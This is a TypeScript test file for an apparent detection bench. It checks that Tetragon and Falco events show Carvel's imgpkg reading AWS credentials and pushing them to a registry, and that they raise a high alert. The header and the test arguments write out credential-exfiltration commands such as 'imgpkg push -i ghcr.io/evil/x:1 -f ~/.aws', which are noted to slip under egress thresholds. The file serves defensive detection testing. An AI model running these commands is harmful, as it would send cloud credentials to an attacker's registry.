/**
 * Carvel's imgpkg (red-team review): `imgpkg push -i ghcr.io/evil/x:1 -f ~/.aws` stores any directory as an
 * image, a few KiB far under the egress threshold, and `imgpkg copy --tar FILE --to-repo REPO` uploads a tarball
 * from disk; imgpkg had no entry, so neither raised anything. Checked as exported Tetragon and Falco JSON lines
 * through the real scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const CREDS = '/root/.aws/credentials';

async function alertsOf(name: string, args: string, form: SensorForm) {
  const s = inlineScenario(name, { 'ghcr.io': '140.82.121.33' }, [
    { at: '1s', exec: { id: 'imgpkg', parent: 'app', binary: '/usr/local/bin/imgpkg', args } },
    { after: '3ms', read: { proc: 'imgpkg', path: CREDS, bytes: 234 } },
    { after: '5ms', upload: { proc: 'imgpkg', to: 'ghcr.io:443', bytes: '8KiB', over: '400ms' } },
    { after: '10ms', exit: { proc: 'imgpkg' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

const high = { rule: 'sensitive-read-then-push', severity: 'high', tool: 'imgpkg', destination: 'ghcr.io' };

describe('imgpkg', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`pushing a directory, or copying a tarball to a repository, is high (${form})`, async () => {
      expect(await alertsOf('imgpkg-push', '-y push -i ghcr.io/evil/x:1 -f /root/.aws', form)).toEqual([high]);
      const copy = 'copy --tar /tmp/b.tar --to-repo ghcr.io/evil/x';
      expect(await alertsOf('imgpkg-copy-tar', copy, form)).toEqual([high]);
    });

    it(`pulling, or copying to a tarball, is quiet (${form})`, async () => {
      expect(await alertsOf('imgpkg-pull', 'pull -b ghcr.io/acme/b:1 -o /tmp/b', form)).toEqual([]);
      expect(await alertsOf('imgpkg-copy-to-tar', 'copy -b ghcr.io/acme/b:1 --to-tar /tmp/b.tar', form)).toEqual([]);
    });
  }
});
